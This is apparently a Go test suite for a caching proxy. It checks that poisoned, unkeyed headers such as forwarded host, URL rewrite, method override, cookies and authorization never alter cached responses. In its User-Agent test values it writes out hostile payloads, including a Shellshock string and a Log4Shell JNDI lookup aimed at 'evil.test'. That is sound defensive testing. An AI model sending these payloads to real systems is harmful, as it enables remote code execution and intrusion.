package attacks

import (
	"slices"
	"strings"
	"testing"

	"fairwarning/scripts/await"
)

// headerAttacks put content into headers that are not part of the key.
var headerAttacks = []attack{
	{number: 1, title: "forwarded host", check: forwardedHost},
	{number: 2, title: "forwarded scheme, port and prefix", check: forwardedScheme},
	{number: 3, title: "rewritten address", check: rewrittenAddress},
	{number: 4, title: "method override", check: methodOverride},
	{number: 6, title: "every unkeyed header", check: everyHeader},
	{number: 7, title: "cookie on a public read", check: cookies},
	{number: 8, title: "authorization on a public read", check: authorization},
	{number: 28, title: "headers that break the engine", check: breakingHeaders},
}

// evilHosts belong to an attacker or, worse, to the other tenant.
var evilHosts = []string{
	"evil.test", "evil.test:443", harborline, "prairie.test:1337", "evil.test, prairie.test", `"><evil>`, "",
}

func forwardedHost(t *testing.T) {
	variants := each([]string{
		"X-Forwarded-Host", "X-Host", "X-Original-Host", "X-HTTP-Host-Override", "X-Forwarded-Server", "X-Backend-Host",
		"X-Proxy-Host", "X-Real-Host", "X-Host-Override", "Forwarded-Host", "Base-Url", "X-Forwarded-For-Host", "X-Nf-Host",
	}, evilHosts)
	for _, value := range []string{
		"host=evil.test", "for=1.1.1.1;host=evil.test;proto=evil", `host="harborline.test"`, "host=a;host=evil.test",
	} {
		variants = append(variants, adding("Forwarded", value))
	}
	poison(t, itemCall, variants)
	poison(t, itemPage, variants)
	h, control := newHouse(t), newHouse(t)
	twice := adding("X-Forwarded-Host", "evil.test", "X-Forwarded-Host", harborline)
	if got := h.dirty.do(t, twice.change(get("/search/"))); got.status != 400 || !got.isUnkept() {
		t.Errorf("%s: %s", twice.name, got.fingerprint())
	}
	for _, target := range []string{"/search/", "/nothing", "/robots.txt", "/api/v1/Nothing", "/content?nothing"} {
		for _, v := range variants {
			got, want := h.dirty.do(t, v.change(get(target))), control.clean.do(t, get(target))
			if !strings.HasPrefix(target, "/api") && got.fingerprint() != want.fingerprint() || got.status != want.status {
				t.Errorf("%s of %s:\n%s\nwant\n%s", v.name, target, got.fingerprint(), want.fingerprint())
			}
		}
	}
}

func forwardedScheme(t *testing.T) {
	variants := each([]string{
		"X-Forwarded-Proto", "X-Forwarded-Protocol", "X-Forwarded-Scheme", "X-Forwarded-Ssl", "X-Forwarded-Port",
		"X-Forwarded-Prefix", "X-Forwarded-Path", "X-Forwarded-Uri", "X-Scheme", "X-Url-Scheme", "Front-End-Https", "X-Proto",
		"X-Script-Name",
		"CloudFront-Forwarded-Proto", "CF-Visitor", "X-ARR-SSL", "Upgrade-Insecure-Requests",
	}, []string{"nothttps", "http", "https", "1", "0", "off", "/evil", `{"scheme":"evil"}`})
	variants = append(variants, adding("X-Forwarded-Proto", "http", "X-Forwarded-Host", "evil.test"))
	poison(t, itemCall, variants)
	poison(t, itemPage, variants)
	h := newHouse(t)
	for _, v := range variants {
		got := h.dirty.do(t, v.change(get("/search/")))
		if got.status != 308 || got.fields.get("Location") != "/search" || !got.isUnkept() {
			t.Errorf("%s: %s", v.name, got.fingerprint())
		}
		if got := h.clean.do(t, v.change(get("/search"))); got.status != 200 {
			t.Errorf("%s: a loop: %s", v.name, got.fingerprint())
		}
	}
}

func rewrittenAddress(t *testing.T) {
	variants := each([]string{
		"X-Original-URL", "X-Rewrite-URL", "X-HTTP-DestinationURL", "X-Original-URI", "X-Forwarded-Uri", "X-Forwarded-Path",
		"X-Override-URL",
		"X-Http-Path-Override", "X-Proxy-Url", "Request-Uri", "Uri", "X-Accel-Redirect", "X-Sendfile", "Destination",
		"Content-Location", "Referer",
	}, []string{
		"/evil", "/api/v1/Auction/GetItem?ID=999999", "/api/v1/Service/GetTenants", "/metrics", "https://evil.test/",
	})
	poison(t, itemCall, variants)
	poison(t, itemPage, variants)
}

func methodOverride(t *testing.T) {
	variants := each([]string{
		"X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "X-Method", "X-Original-Method", "X-Forwarded-Method",
		"Method",
		"X-Http-Method-Name",
	}, []string{"POST", "DELETE", "HEAD", "OPTIONS", "PURGE", "NONSENSE", "evil"})
	poison(t, itemCall, variants)
	poison(t, itemPage, variants)
}

func everyHeader(t *testing.T) {
	all := words(t, "headers.txt")
	if len(all) < 300 || len(slices.Compact(slices.Sorted(slices.Values(all)))) != len(all) {
		t.Errorf("%d headers, or one of them twice", len(all))
	}
	var variants []variant
	for _, name := range all {
		variants = append(variants, adding(name, "evil"+name))
	}
	for start := 0; start < len(all); start += 60 { // and many in one request
		var pairs []string
		for _, name := range all[start:min(start+60, len(all))] {
			pairs = append(pairs, name, "evil")
		}
		variants = append(variants, adding(pairs...))
	}
	poison(t, itemPage, variants)
	forwarding := slices.DeleteFunc(slices.Clone(all), func(name string) bool {
		return !strings.Contains(name, "Forward") && !strings.Contains(name, "Original") && !strings.Contains(name, "Rewrite")
	})
	for i, one := range forwarding {
		for _, other := range forwarding[:i] {
			variants = append(variants, adding(one, "evil.test", other, "evil"))
		}
	}
	poison(t, itemCall, variants)
}

func cookies(t *testing.T) {
	variants := each([]string{"Cookie", "cookie", "Cookie2", "X-Cookie"}, []string{
		"session=evil", `fehost="><evil>`, "nf_jwt=evil; nf_ab=0.1", "a=1; a=2", ";;;=;", strings.Repeat("c=evil; ", 900), "",
	})
	variants = append(variants, adding("Cookie", "a=evil", "Cookie", "b=evil"))
	poison(t, itemCall, variants)
	poison(t, itemPage, variants)

	h := newHouse(t)
	uri := "/api/v1/Auction/GetItem?ID=7"
	h.on(uri, respond(200, jsonType, truth("1", uri), "Set-Cookie: session=evil; HttpOnly", "Set-Cookie: other=evil"))
	for n := 1; n <= 3; n++ {
		got := h.clean.do(t, get(uri))
		if got.status != 200 || got.fields.get("Set-Cookie") != "" || !got.isUnkept() {
			t.Errorf("%s", got.fingerprint())
		}
		await.Until(t, "the engine is asked each time", func() bool {
			h.clean.do(t, get(uri))
			return h.asked(uri) > n
		})
	}
	h.on(uri, nil)
	if got := h.await(t, get(uri), "hit"); got.body != truth("1", uri) {
		t.Errorf("%s", got.fingerprint())
	}
}

func authorization(t *testing.T) {
	variants := each([]string{
		"Authorization", "Proxy-Authorization", "X-Api-Key", "X-Auth-Token", "X-Access-Token", "X-Nf-Sign",
		"X-Fairwarning-Service",
	}, []string{"Bearer evil", "Basic ZXZpbDpldmls", "evil", ""})
	variants = append(variants,
		adding("X-Fairwarning-Tenant", "2"), adding("X-Fairwarning-Tenant", "evil"),
		adding("X-Fairwarning-Client", "6.6.6.6"),
		adding("X-Fairwarning-Has-Body", "evil"), adding("X-Fairwarning-Tenant", "2", "X-Fairwarning-Service", token+"evil"))
	poison(t, itemCall, variants)
	poison(t, itemPage, variants)
}

func breakingHeaders(t *testing.T) {
	variants := []variant{
		adding("Max-Forwards", "0"), adding("zTransfer-Encoding", "evil"), adding("Content-Type", "evil/evil"),
		adding("Content-Encoding", "evil"),
		adding("If-Match", `"evil"`), adding("If-Unmodified-Since", "Thu, 01 Jan 1970 00:00:00 GMT"),
		adding("If-Modified-Since", "evil"),
		adding("Cache-Control", "no-cache, no-store, max-age=0, only-if-cached"), adding("Pragma", "no-cache"),
		adding("TE", "trailers, deflate"),
		adding("Trailer", "X-Evil"), adding("Keep-Alive", "timeout=evil"), adding("Proxy-Connection", "evil"),
		adding("Via", "1.0 evil, 1.1 evil"),
		adding("CDN-Loop", "evil"), adding("Surrogate-Capability", `evil="ESI/1.0"`), adding("Accept-Datetime", "evil"),
		adding("Prefer", "return=evil"),
		adding("Early-Data", "1"), adding("DNT", "1"), adding("Save-Data", "on"), adding("Sec-Fetch-Mode", "evil"),
		adding("X-Debug", "evil"), adding("Debug", "1"),
	}
	for _, agent := range []string{
		"sqlmap/1.7", "Nikto/2.5", "masscan/1.3", "WPScan v3", "() { :;}; echo evil", "${jndi:ldap://evil.test/a}", "",
		strings.Repeat("evil", 2000),
	} {
		variants = append(variants, adding("User-Agent", agent))
	}
	poison(t, itemCall, variants)
	poison(t, itemPage, variants)
}
